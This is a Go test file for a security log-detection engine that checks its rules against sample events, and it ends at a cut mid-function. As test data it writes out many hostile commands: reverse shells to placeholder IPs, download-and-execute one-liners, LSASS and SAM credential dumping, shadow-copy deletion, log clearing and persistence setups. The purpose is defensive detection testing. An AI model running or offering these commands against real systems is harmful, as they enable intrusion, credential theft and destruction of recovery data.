package detect

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/loupe-sec/loupe/internal/event"
	"github.com/loupe-sec/loupe/internal/finding"
)

func collect(e *Engine, evs ...*event.Event) []Detection {
	var out []Detection
	for _, ev := range evs {
		e.Observe(ev, func(d Detection) { out = append(out, d) })
	}
	e.Flush(func(d Detection) { out = append(out, d) })
	return out
}

func proc(cmd string) *event.Event {
	return &event.Event{ID: "r1", Host: "WS1", User: "bob", Format: event.FormatEVTX, EventID: 1,
		Channel: "Microsoft-Windows-Sysmon/Operational", Provider: "Microsoft-Windows-Sysmon", CommandLine: cmd}
}

func linuxCmd(cmd string) *event.Event {
	return &event.Event{ID: "r1", Host: "web1", User: "www-data", Format: event.FormatJSON, CommandLine: cmd}
}

func winEvent(id int, channel, provider, data string) *event.Event {
	return &event.Event{ID: "w1", Host: "DC1", Format: event.FormatEVTX, EventID: id, Channel: channel, Provider: provider,
		Raw: []byte(`{"Event":{"EventData":` + data + `}}`), DataPath: "Event.EventData"}
}

func syslogEv(program, msg string) *event.Event {
	return &event.Event{ID: "s1", Host: "web1", Format: event.FormatSyslog, Program: program, Message: msg}
}

func encodePS(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

type ruleCase struct {
	name  string
	ev    *event.Event
	rule  string // "" = no detection
	what  string // substring of What
	tech  string // first technique
	prio  finding.Priority
	check bool // compare prio
}

func TestRules(t *testing.T) {
	enc := encodePS("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")
	benignEnc := encodePS("Get-Process | Sort-Object CPU")
	cases := []ruleCase{
		// reverse shells
		{name: "bash dev tcp", ev: linuxCmd("bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"), rule: "loupe-reverse-shell", what: "reverse shell to 203.0.113.5:4444", tech: "T1059.004", prio: finding.Critical, check: true},
		{name: "nc -e", ev: linuxCmd("nc -e /bin/sh 203.0.113.9 9001"), rule: "loupe-reverse-shell", what: "203.0.113.9:9001"},
		{name: "mkfifo nc", ev: linuxCmd("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"), rule: "loupe-reverse-shell", what: "10.0.0.1:1234"},
		{name: "python pty", ev: linuxCmd(`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.2",443));os.dup2(s.fileno(),0);import pty; pty.spawn("/bin/bash")'`), rule: "loupe-reverse-shell", what: "198.51.100.2:443"},
		{name: "socat exec", ev: linuxCmd("socat tcp-connect:198.51.100.3:8443 exec:/bin/bash,pty,stderr"), rule: "loupe-reverse-shell"},
		{name: "ps tcpclient", ev: proc(`powershell -nop -c "$c=New-Object System.Net.Sockets.TCPClient('192.0.2.10',4444);$s=$c.GetStream()"`), rule: "loupe-reverse-shell-powershell", what: "192.0.2.10:4444", tech: "T1059.001"},
		{name: "nc port check", ev: linuxCmd("nc -zv db.internal 5432"), rule: ""},
		{name: "python socket server", ev: linuxCmd("python3 -m http.server 8000"), rule: ""},
		// encoded powershell
		{name: "encoded ps", ev: proc("powershell.exe -NoP -W Hidden -EncodedCommand " + enc), rule: "loupe-encoded-powershell", what: "DownloadString('http://198.51.100.7/a.ps1')", tech: "T1059.001", prio: finding.Critical, check: true},
		{name: "encoded ps -e", ev: proc("powershell -e " + benignEnc), rule: "loupe-encoded-powershell", what: "Get-Process | Sort-Object CPU", prio: finding.High, check: true},
		{name: "encoded ps -enc", ev: proc(`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -enc ` + benignEnc), rule: "loupe-encoded-powershell"},
		{name: "ps bypass file", ev: proc("powershell -ExecutionPolicy Bypass -File x.ps1"), rule: ""},
		{name: "ps -e not base64", ev: proc("powershell -e notbase64!"), rule: ""},
		// credential access
		{name: "procdump lsass", ev: proc("procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp"), rule: "loupe-lsass-dump", what: "ProcDump", tech: "T1003.001"},
		{name: "comsvcs", ev: proc(`rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full`), rule: "loupe-lsass-dump", what: "comsvcs.dll MiniDump"},
		{name: "mimikatz sekurlsa", ev: proc(`mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`), rule: "loupe-lsass-dump", what: "sekurlsa::logonpasswords"},
		{name: "mimikatz dcsync", ev: proc(`m.exe "lsadump::dcsync /user:krbtgt" exit`), rule: "loupe-mimikatz", what: "lsadump::dcsync", tech: "T1003"},
		{name: "reg save sam", ev: proc(`reg save HKLM\SAM C:\Windows\Temp\sam.save /y`), rule: "loupe-sam-dump", what: `saved the SAM registry hive to C:\Windows\Temp\sam.save`, tech: "T1003.002"},
		{name: "reg export subkey", ev: proc(`reg export HKLM\SYSTEM\CurrentControlSet\Services\foo foo.reg`), rule: ""},
		{name: "ntds copy", ev: proc(`cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit C:\temp\ntds.dit`), rule: "loupe-ntds-dump", tech: "T1003.003"},
		{name: "ntdsutil ifm", ev: proc(`ntdsutil "ac i ntds" "ifm" "create full c:\temp" q q`), rule: "loupe-ntds-dump", what: "ntdsutil"},
		{name: "static ps types", ev: proc(`powershell -c "[System.Text.Encoding]::UTF8.GetString($b)"`), rule: ""},
		// impact
		{name: "vssadmin delete", ev: proc("vssadmin.exe delete shadows /all /quiet"), rule: "loupe-inhibit-recovery", what: "deleted volume shadow copies", tech: "T1490", prio: finding.Critical, check: true},
		{name: "wmic shadowcopy", ev: proc("wmic shadowcopy delete"), rule: "loupe-inhibit-recovery"},
		{name: "bcdedit", ev: proc("bcdedit /set {default} recoveryenabled No"), rule: "loupe-inhibit-recovery", what: "bcdedit"},
		{name: "vssadmin list", ev: proc("vssadmin list shadows"), rule: ""},
		// log clearing
		{name: "wevtutil", ev: proc("wevtutil cl Security"), rule: "loupe-windows-log-cleared", what: "cleared the Security event log with wevtutil", tech: "T1070.001"},
		{name: "clear-eventlog", ev: proc("powershell Clear-EventLog -LogName System"), rule: "loupe-windows-log-cleared", what: "System event log"},
		{name: "wevtutil query", ev: proc("wevtutil qe Security /c:5"), rule: ""},
		{name: "1102", ev: &event.Event{Host: "DC1", EventID: 1102, Channel: "Security", Provider: "Microsoft-Windows-Eventlog", User: "admin"}, rule: "loupe-windows-log-cleared", what: "cleared the Security event log as admin"},
		{name: "104", ev: &event.Event{Host: "DC1", EventID: 104, Channel: "System", Provider: "Microsoft-Windows-Eventlog", Raw: []byte(`{"Event":{"UserData":{"LogFileCleared":{"Channel":"Windows PowerShell"}}}}`)}, rule: "loupe-windows-log-cleared", what: "cleared the Windows PowerShell event log"},
		{name: "104 other provider", ev: &event.Event{Host: "DC1", EventID: 104, Channel: "Application", Provider: "SomeApp"}, rule: ""},
		{name: "rm var log", ev: linuxCmd("rm -rf /var/log/auth.log"), rule: "loupe-linux-log-cleared", what: "deleted /var/log/auth.log", tech: "T1070.002"},
		{name: "truncate wtmp", ev: linuxCmd("truncate -s 0 /var/log/wtmp"), rule: "loupe-linux-log-cleared", what: "truncated /var/log/wtmp"},
		{name: "empty redirect", ev: linuxCmd("cat /dev/null > /var/log/syslog"), rule: "loupe-linux-log-cleared", what: "emptied /var/log/syslog"},
		{name: "tail log", ev: linuxCmd("tail -f /var/log/syslog"), rule: ""},
		{name: "append log", ev: linuxCmd("echo done >> /var/log/backup.log"), rule: ""},
		{name: "output to log", ev: linuxCmd("/usr/local/bin/backup.sh > /var/log/backup.log"), rule: ""},
		{name: "history -c", ev: linuxCmd("history -c"), rule: "loupe-history-cleared", tech: "T1070.003"},
		{name: "rm bash_history", ev: linuxCmd("rm -f /root/.bash_history"), rule: "loupe-history-cleared", what: "/root/.bash_history"},
		{name: "unset histfile", ev: linuxCmd("unset HISTFILE"), rule: "loupe-history-disabled", tech: "T1562.003"},
		{name: "history list", ev: linuxCmd("history | tail"), rule: ""},
		// LOLBins
		{name: "certutil download", ev: proc("certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe"), rule: "loupe-certutil-download", what: "ran certutil.exe to download http://198.51.100.7/a.exe", tech: "T1105"},
		{name: "certutil decode", ev: proc("certutil -decode payload.b64 payload.exe"), rule: "loupe-certutil-decode", what: "decoded payload.b64", tech: "T1140"},
		{name: "certutil hashfile", ev: proc("certutil -hashfile setup.exe SHA256"), rule: ""},
		{name: "bitsadmin", ev: proc("bitsadmin /transfer job /download /priority high http://198.51.100.7/b.exe C:\\temp\\b.exe"), rule: "loupe-bits-transfer", what: "http://198.51.100.7/b.exe"},
		{name: "mshta", ev: proc("mshta http://198.51.100.7/run.hta"), rule: "loupe-mshta-script", tech: "T1218.005"},
		{name: "mshta local", ev: proc(`mshta.exe C:\Program Files\App\help.hta`), rule: ""},
		{name: "squiblydoo", ev: proc("regsvr32 /s /n /u /i:http://198.51.100.7/file.sct scrobj.dll"), rule: "loupe-regsvr32-scriptlet", what: "http://198.51.100.7/file.sct", tech: "T1218.010"},
		{name: "regsvr32 plain", ev: proc(`regsvr32 /s C:\Program Files\App\x.dll`), rule: ""},
		{name: "rundll32 js", ev: proc(`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)`), rule: "loupe-rundll32-script", tech: "T1218.011"},
		{name: "rundll32 normal", ev: proc(`rundll32.exe shell32.dll,Control_RunDLL`), rule: ""},
		{name: "iex download", ev: proc(`powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x.ps1')"`), rule: "loupe-download-exec-powershell", what: "http://198.51.100.7/x.ps1"},
		{name: "curl pipe sh", ev: linuxCmd("curl -fsSL http://198.51.100.7/i.sh | sh"), rule: "loupe-download-exec", what: "downloaded and executed http://198.51.100.7/i.sh", tech: "T1059.004"},
		{name: "wget chmod", ev: linuxCmd("wget -q http://198.51.100.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x"), rule: "loupe-download-exec"},
		{name: "curl download only", ev: linuxCmd("curl -o release.tar.gz https://example.org/release.tar.gz"), rule: ""},
		{name: "curl pipe shasum", ev: linuxCmd("curl -s https://example.org/x | sha256sum"), rule: ""},
		// accounts
		{name: "net user add", ev: proc("net user backdoor P@ssw0rd! /add"), rule: "loupe-account-created", what: `created account "backdoor"`, tech: "T1136.001"},
		{name: "net user query", ev: proc("net user bob /domain"), rule: ""},
		{name: "useradd", ev: linuxCmd("useradd -m -s /bin/bash eve"), rule: "loupe-account-created", what: `"eve"`},
		{name: "4720", ev: winEvent(4720, "Security", "Microsoft-Windows-Security-Auditing", `{"TargetUserName":"svc_backup","SubjectUserName":"admin"}`), rule: "loupe-account-created", what: `created account "svc_backup"`},
		{name: "syslog useradd", ev: syslogEv("useradd", "new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash, from=/dev/pts/0"), rule: "loupe-account-created", what: `"eve"`},
		{name: "syslog useradd group", ev: syslogEv("useradd", "new group: name=eve, GID=1001"), rule: ""},
		{name: "net localgroup admins", ev: proc("net localgroup administrators backdoor /add"), rule: "loupe-admin-group-add", what: `added "backdoor" to the privileged group "administrators"`, tech: "T1098", prio: finding.High, check: true},
		{name: "net localgroup users", ev: proc("net localgroup users bob /add"), rule: ""},
		{name: "usermod sudo", ev: linuxCmd("usermod -aG sudo eve"), rule: "loupe-admin-group-add", what: `"eve" to the privileged group "sudo"`},
		{name: "usermod video", ev: linuxCmd("usermod -aG video eve"), rule: ""},
		{name: "gpasswd", ev: linuxCmd("gpasswd -a eve wheel"), rule: "loupe-admin-group-add"},
		{name: "4732 admins", ev: winEvent(4732, "Security", "Microsoft-Windows-Security-Auditing", `{"TargetUserName":"Administrators","TargetSid":"S-1-5-32-544","MemberName":"CN=eve,CN=Users,DC=corp,DC=local"}`), rule: "loupe-admin-group-add", what: `added "eve" to the privileged group "Administrators"`},
		{name: "4728 domain admins by sid", ev: winEvent(4728, "Security", "Microsoft-Windows-Security-Auditing", `{"TargetUserName":"Domänen-Admins","TargetSid":"S-1-5-21-1-2-3-512","MemberName":"CN=eve,DC=corp"}`), rule: "loupe-admin-group-add"},
		{name: "4732 other group", ev: winEvent(4732, "Security", "Microsoft-Windows-Security-Auditing", `{"TargetUserName":"Print Users","TargetSid":"S-1-5-21-1-2-3-1105","MemberName":"CN=eve"}`), rule: ""},
		{name: "syslog usermod", ev: syslogEv("usermod", "add 'eve' to group 'sudo'"), rule: "loupe-admin-group-add"},
		{name: "syslog usermod shadow", ev: syslogEv("usermod", "add 'eve' to shadow group 'sudo'"), rule: ""},
		{name: "syslog gpasswd", ev: syslogEv("gpasswd", "user eve added by root to group wheel"), rule: "loupe-admin-group-add"},
		{name: "sudo useradd", ev: syslogEv("sudo", "    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/sbin/useradd -m eve"), rule: "loupe-account-created", what: `"eve"`},
		// services, tasks, autostart
		{name: "psexec 7045", ev: winEvent(7045, "System", "Service Control Manager", `{"ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\PSEXESVC.exe","AccountName":"LocalSystem"}`), rule: "loupe-psexec-service", what: `installed service "PSEXESVC" running %SystemRoot%\PSEXESVC.exe`, tech: "T1021.002"},
		{name: "7045 comspec", ev: winEvent(7045, "System", "Service Control Manager", `{"ServiceName":"BTOBTO","ImagePath":"%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"}`), rule: "loupe-service-installed", tech: "T1543.003", prio: finding.High, check: true},
		{name: "7045 appdata", ev: winEvent(7045, "System", "Service Control Manager", `{"ServiceName":"Updater","ImagePath":"C:\\Users\\bob\\AppData\\Roaming\\upd.exe"}`), rule: "loupe-service-installed", prio: finding.High, check: true},
		{name: "7045 odd dir", ev: winEvent(7045, "System", "Service Control Manager", `{"ServiceName":"Agent","ImagePath":"C:\\Tools\\agent.exe"}`), rule: "loupe-service-installed", prio: finding.Medium, check: true},
		{name: "7045 driver", ev: winEvent(7045, "System", "Service Control Manager", `{"ServiceName":"vmci","ImagePath":"System32\\drivers\\vmci.sys"}`), rule: ""},
		{name: "4697 program files", ev: winEvent(4697, "Security", "Microsoft-Windows-Security-Auditing", `{"ServiceName":"GoogleUpdater","ServiceFileName":"\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /svc"}`), rule: ""},
		{name: "sc create", ev: proc(`sc.exe create evilsvc binPath= "C:\Users\Public\svc.exe" start= auto`), rule: "loupe-service-installed", what: `created service "evilsvc" running C:\Users\Public\svc.exe`, prio: finding.High, check: true},
		{name: "sc query", ev: proc("sc query wuauserv"), rule: ""},
		{name: "schtasks", ev: proc(`schtasks /create /tn "Updater" /tr "powershell -w hidden -c iwr http://x/a" /sc onlogon`), rule: "loupe-scheduled-task", what: `created scheduled task "Updater"`, tech: "T1053.005", prio: finding.High, check: true},
		{name: "schtasks query", ev: proc("schtasks /query /fo LIST"), rule: ""},
		{name: "4698 suspicious", ev: winEvent(4698, "Security", "Microsoft-Windows-Security-Auditing", `{"TaskName":"\\Sync","TaskContent":"<Task><Actions><Exec><Command>C:\\Windows\\System32\\cmd.exe</Command><Arguments>/c C:\\Users\\Public\\s.bat</Arguments></Exec></Actions></Task>"}`), rule: "loupe-scheduled-task", what: `running C:\Windows\System32\cmd.exe /c C:\Users\Public\s.bat`},
		{name: "4698 encoded", ev: winEvent(4698, "Security", "Microsoft-Windows-Security-Auditing", `{"TaskName":"\\Updater","TaskContent":"<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -enc `+benignEnc+`</Arguments></Exec></Actions></Task>"}`), rule: "loupe-scheduled-task", what: `the encoded PowerShell decodes to "Get-Process | Sort-Object CPU"`, prio: finding.High, check: true},
		{name: "4698 benign", ev: winEvent(4698, "Security", "Microsoft-Windows-Security-Auditing", `{"TaskName":"\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan","TaskContent":"<Task><Actions><Exec><Command>%systemroot%\\system32\\usoclient.exe</Command><Arguments>StartScan</Arguments></Exec></Actions></Task>"}`), rule: ""},
		{name: "sysmon 13 run key", ev: winEvent(13, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", `{"EventType":"SetValue","Image":"C:\\Windows\\System32\\reg.exe","TargetObject":"HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd","Details":"C:\\Users\\bob\\AppData\\Roaming\\upd.exe"}`), rule: "loupe-run-key", tech: "T1547.001", prio: finding.High, check: true},
		{name: "sysmon 13 onedrive", ev: winEvent(13, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", `{"EventType":"SetValue","Image":"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe","TargetObject":"HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive","Details":"\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"}`), rule: ""},
		{name: "sysmon 13 other key", ev: winEvent(13, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", `{"Image":"C:\\Windows\\System32\\reg.exe","TargetObject":"HKLM\\Software\\Foo","Details":"1"}`), rule: ""},
		{name: "reg add run", ev: proc(`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d "C:\Users\Public\upd.exe" /f`), rule: "loupe-run-key", what: `Run\upd to "C:\Users\Public\upd.exe"`, prio: finding.High, check: true},
		{name: "systemd tmp", ev: linuxCmd("systemctl enable /tmp/.x/dbus-update.service"), rule: "loupe-systemd-persistence", tech: "T1543.002"},
		{name: "systemd write", ev: linuxCmd("cp /tmp/x.service /etc/systemd/system/x.service"), rule: "loupe-systemd-persistence", what: "/etc/systemd/system/x.service"},
		{name: "systemctl enable nginx", ev: linuxCmd("systemctl enable nginx"), rule: ""},
		{name: "cron pipe", ev: linuxCmd(`(crontab -l; echo "*/5 * * * * curl -s http://198.51.100.7/c.sh | sh") | crontab -`), rule: "loupe-cron-persistence", tech: "T1053.003", prio: finding.High, check: true},
		{name: "cron file", ev: linuxCmd(`echo "* * * * * root /tmp/.x" >> /etc/crontab`), rule: "loupe-cron-persistence", what: "/etc/crontab"},
		{name: "crontab -l", ev: linuxCmd("crontab -l"), rule: ""},
		{name: "CRON download", ev: syslogEv("CRON", "(root) CMD (wget -q -O- http://198.51.100.7/m.sh | bash)"), rule: "loupe-cron-persistence", what: `ran "wget -q -O- http://198.51.100.7/m.sh | bash" from a cron job`},
		{name: "CRON benign", ev: syslogEv("CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"), rule: ""},
		{name: "CRON session", ev: syslogEv("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"), rule: ""},
		// lsass access
		{name: "lsass access", ev: winEvent(10, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", `{"SourceImage":"C:\\Users\\bob\\Downloads\\m.exe","TargetImage":"C:\\Windows\\system32\\lsass.exe","GrantedAccess":"0x1010","CallTrace":"C:\\Windows\\SYSTEM32\\ntdll.dll+9d204|UNKNOWN(00007FF6)"}`), rule: "loupe-lsass-access", what: `opened LSASS memory from C:\Users\bob\Downloads\m.exe with access 0x1010`, tech: "T1003.001", prio: finding.Critical, check: true},
		{name: "lsass access svchost", ev: winEvent(10, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", `{"SourceImage":"C:\\Windows\\system32\\svchost.exe","TargetImage":"C:\\Windows\\system32\\lsass.exe","GrantedAccess":"0x1410"}`), rule: ""},
		{name: "lsass access defender", ev: winEvent(10, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", `{"SourceImage":"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe","TargetImage":"C:\\Windows\\system32\\lsass.exe","GrantedAccess":"0x1fffff"}`), rule: ""},
		{name: "lsass access query", ev: winEvent(10, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", `{"SourceImage":"C:\\Tools\\x.exe","TargetImage":"C:\\Windows\\system32\\lsass.exe","GrantedAccess":"0x1000"}`), rule: ""},
		{name: "event 10 not sysmon", ev: winEvent(10, "System", "Other", `{"TargetImage":"C:\\Windows\\system32\\lsass.exe","GrantedAccess":"0x1010"}`), rule: ""},
		// plain benign
		{name: "svchost", ev: proc(`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`), rule: ""},
		{name: "ls", ev: linuxCmd("ls -la /home/bob"), rule: ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ds := collect(New(Options{}), c.ev)
			if c.rule == "" {
				for _, d := range ds {
					t.Errorf("unexpected detection %s: %s", d.Rule.ID, d.What)
				}
				return
			}
			if len(ds) != 1 {
				var ids []string
				for _, d := range ds {
					ids = append(ids, d.Rule.ID+": "+d.What)
				}
				t.Fatalf("want one %s detection, got %d: %v", c.rule, len(ds), ids)
			}
			d := ds[0]
			if d.Rule.ID != c.rule {
				t.Fatalf("rule = %s (%s), want %s", d.Rule.ID, d.What, c.rule)
			}
			if !strings.Contains(d.What, c.what) {
				t.Errorf("What = %q, want it to contain %q", d.What, c.what)
			}
			if c.tech != "" && (len(d.Techniques) == 0 || d.Techniques[0].ID != c.tech) {
				t.Errorf("techniques = %v, want %s first", d.Techniques, c.tech)
			}
			if c.check && d.Priority != c.prio {
				t.Errorf("priority = %s, want %s", d.Priority, c.prio)
			}
			if d.Rule.Author != "loupe" || d.Rule.Link == "" || d.Rule.Title == "" || d.Tactic == "" || d.TacticID == "" || len(d.Techniques) == 0 || d.Techniques[0].Name == "" {
				t.Errorf("incomplete attribution: %+v", d)
			}
			if d.Event != c.ev || d.Count != 1 || d.Source != "rule" {
				t.Errorf("event/count/source = %p/%d/%s", d.Event, d.Count, d.Source)
			}
			if !strings.HasPrefix(d.Key, c.rule+"|"+strings.ToLower(c.ev.Host)+"|") {
				t.Errorf("key = %q", d.Key)
			}
		})
	}
}

func TestRuleTable(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range rules {
		if seen[r.id] {
			t.Errorf("duplicate rule id %s", r.id)
		}
		seen[r.id] = true
		if !strings.HasPrefix(r.id, "loupe-") || r.title == "" || r.match == nil {
			t.Errorf("rule %s incomplete", r.id)
		}
		if len(r.eventIDs)+len(r.programs)+len(r.anchors) == 0 {
			t.Errorf("rule %s has no trigger", r.id)
		}
		for _, a := range r.anchors {
			if a != strings.ToLower(a) {
				t.Errorf("rule %s: anchor %q is not lower case", r.id, a)
			}
		}
		if !strings.HasPrefix(r.attr.Link, "https://attack.mitre.org/techniques/T") {
			t.Errorf("rule %s link %s", r.id, r.attr.Link)
		}
	}
}

// Identical repeats on one host share a key; another host does not.
func TestKeyGroupsRepeats(t *testing.T) {
	e := New(Options{})
	a := collect(e, proc("vssadmin delete shadows /all /quiet"))
	b := collect(e, proc("vssadmin  Delete Shadows /all /quiet"))
	other := proc("vssadmin delete shadows /all /quiet")
	other.Host = "WS2"
	c := collect(e, other)
	if len(a) != 1 || len(b) != 1 || len(c) != 1 {
		t.Fatal("missing detections")
	}
	if a[0].Key != b[0].Key {
		t.Errorf("repeat keys differ: %q %q", a[0].Key, b[0].Key)
	}
	if a[0].Key == c[0].Key {
		t.Errorf("different hosts share key %q", a[0].Key)
	}
}

func TestEncodedExcerptBounded(t *testing.T) {
	long := encodePS(strings.Repeat("Write-Output 'a very long script line'; ", 400))
	ds := collect(New(Options{}), proc("powershell -enc "+long))
	if len(ds) != 1 {
		t.Fatalf("got %d detections", len(ds))
	}
	if len(ds[0].What) > 300 {
		t.Errorf("What is %d bytes long", len(ds[0].What))
	}
}

// --- brute force ---

var t0 = time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)

func sshFail(user, ip string, at time.Duration) *event.Event {
	return &event.Event{ID: fmt.Sprint("f", at), Host: "web1", Format: event.FormatSyslog, Program: "sshd", Time: t0.Add(at),
		Message: "Failed password for " + user + " from " + ip + " port 50122 ssh2"}
}

func sshOK(user, ip string, at time.Duration) *event.Event {
	return &event.Event{ID: "ok", Host: "web1", Format: event.FormatSyslog, Program: "sshd", Time: t0.Add(at),
		Message: "Accepted password for " + user + " from " + ip + " port 50123 ssh2"}
}

func byRule(ds []Detection) map[string][]Detection {
	m := map[string][]Detection{}
	for _, d := range ds {
		m[d.Rule.ID] = append(m[d.Rule.ID], d)
	}
	return m
}

func TestBruteForceThenSuccess(t *testing.T) {
	var evs []*event.Event
	for i := range 12 {
		evs = append(evs, sshFail("root", "203.0.113.50", time.Duration(i)*10*time.Second))
	}
	evs = append(evs, sshOK("root", "203.0.113.50", 3*time.Minute))
	ds := byRule(collect(New(Options{}), evs...))
	bf := ds["loupe-brute-force"]
	if len(bf) != 1 {
		t.Fatalf("brute-force detections = %d, want 1 (%v)", len(bf), ds)
	}
	d := bf[0]
	if d.Count != 10 || d.Source != "correlation" || d.Tactic != "Credential Access" || d.Techniques[0].ID != "T1110.001" {
		t.Errorf("brute force = count %d source %s tactic %s techs %v", d.Count, d.Source, d.Tactic, d.Techniques)
	}
	if len(d.Related) != maxRelated || d.Related[0].RecordID != evs[0].ID {
		t.Errorf("related = %+v", d.Related)
	}
	if d.Event != evs[9] || d.Actor != "203.0.113.50" || d.What != `failed to log on as "root" 10 times within 5 minutes` {
		t.Errorf("event %v what %q", d.Event.ID, d.What)
	}
	s := ds["loupe-brute-force-success"]
	if len(s) != 1 {
		t.Fatalf("success detections = %d", len(s))
	}
	if s[0].Priority != finding.Critical || s[0].Tactic != "Initial Access" || s[0].Techniques[0].ID != "T1078" || s[0].Count != 13 ||
		!strings.Contains(s[0].What, "logged on as \"root\" after 12 failed attempts") {
		t.Errorf("success = %+v", s[0])
	}
	if len(ds) != 2 {
		t.Errorf("unexpected extra detections: %v", ds)
	}
}

func TestBruteForceNearMisses(t *testing.T) {
	t.Run("one failure then success", func(t *testing.T) {
		ds := collect(New(Options{}), sshFail("bob", "10.0.0.5", 0), sshOK("bob", "10.0.0.5", time.Second))
		if len(ds) != 0 {
			t.Errorf("got %v", ds)
		}
	})
	t.Run("nine failures", func(t *testing.T) {
		var evs []*event.Event
		for i := range 9 {
			evs = append(evs, sshFail("root", "203.0.113.50", time.Duration(i)*time.Second))
		}
		evs = append(evs, sshOK("root", "203.0.113.50", time.Minute))
		if ds := collect(New(Options{}), evs...); len(ds) != 0 {
			t.Errorf("got %v", ds)
		}
	})
	t.Run("spread over hours", func(t *testing.T) {
		var evs []*event.Event
		for i := range 30 {
			evs = append(evs, sshFail("root", "203.0.113.50", time.Duration(i)*20*time.Minute))
		}
		if ds := collect(New(Options{}), evs...); len(ds) != 0 {
			t.Errorf("got %v", ds)
		}
	})
	t.Run("success long after", func(t *testing.T) {
		var evs []*event.Event
		for i := range 10 {
			evs = append(evs, sshFail("root", "203.0.113.50", time.Duration(i)*time.Second))
		}
		evs = append(evs, sshOK("root", "203.0.113.50", 2*time.Hour))
		ds := byRule(collect(New(Options{}), evs...))
		if len(ds["loupe-brute-force"]) != 1 || len(ds["loupe-brute-force-success"]) != 0 {
			t.Errorf("got %v", ds)
		}
	})
}

func TestBruteForceConfigurable(t *testing.T) {
	var evs []*event.Event
	for i := range 3 {
		evs = append(evs, sshFail("root", "203.0.113.50", time.Duration(i)*time.Second))
	}
	if ds := collect(New(Options{FailThreshold: 3, FailWindow: time.Minute}), evs...); len(ds) != 1 {
		t.Errorf("threshold 3: got %d detections", len(ds))
	}
	if ds := collect(New(Options{FailThreshold: 3, FailWindow: time.Second}), evs...); len(ds) != 0 {
		t.Errorf("window 1s: got %d detections", len(ds))
	}
}

func TestPasswordSpray(t *testing.T) {
	var evs []*event.Event
	for i := range 12 {
		evs = append(evs, sshFail(fmt.Sprint("user", i), "198.51.100.20", time.Duration(i)*time.Second))
	}
	ds := collect(New(Options{}), evs...)
	if len(ds) != 1 || ds[0].Rule.ID != "loupe-password-spray" || ds[0].Techniques[0].ID != "T1110.003" || !strings.Contains(ds[0].What, "across 10 accounts") {
		t.Fatalf("got %+v", ds)
	}
}

func TestDistributedBruteForceOnOneUser(t *testing.T) {
	var evs []*event.Event
	for i := range 10 {
		evs = append(evs, sshFail("admin", fmt.Sprintf("198.51.100.%d", i+1), time.Duration(i)*time.Second))
	}
	evs = append(evs, sshOK("admin", "192.0.2.99", 30*time.Second))
	ds := byRule(collect(New(Options{}), evs...))
	bf := ds["loupe-brute-force"]
	if len(bf) != 1 || bf[0].What != `failed to log on as "admin" 10 times within 5 minutes` || !strings.HasPrefix(bf[0].Actor, "10 sources (") || !strings.Contains(bf[0].Key, "user:admin") {
		t.Fatalf("brute force = %+v", bf)
	}
	s := ds["loupe-brute-force-success"]
	if len(s) != 1 || s[0].Priority != finding.Critical {
		t.Fatalf("success = %+v", s)
	}
}

func TestSSHInvalidUserCountedOnce(t *testing.T) {
	var evs []*event.Event
	for i := range 6 {
		at := time.Duration(i) * time.Second
		inv := syslogEv("sshd", "Invalid user oracle from 203.0.113.77 port 4242")
		inv.Time = t0.Add(at)
		fail := syslogEv("sshd", "Failed password for invalid user oracle from 203.0.113.77 port 4242 ssh2")
		fail.Time = t0.Add(at)
		evs = append(evs, inv, fail)
	}
	if ds := collect(New(Options{}), evs...); len(ds) != 0 {
		t.Errorf("6 attempts logged twice each made %d detections", len(ds))
	}
}

func TestSSHMessageRepeated(t *testing.T) {
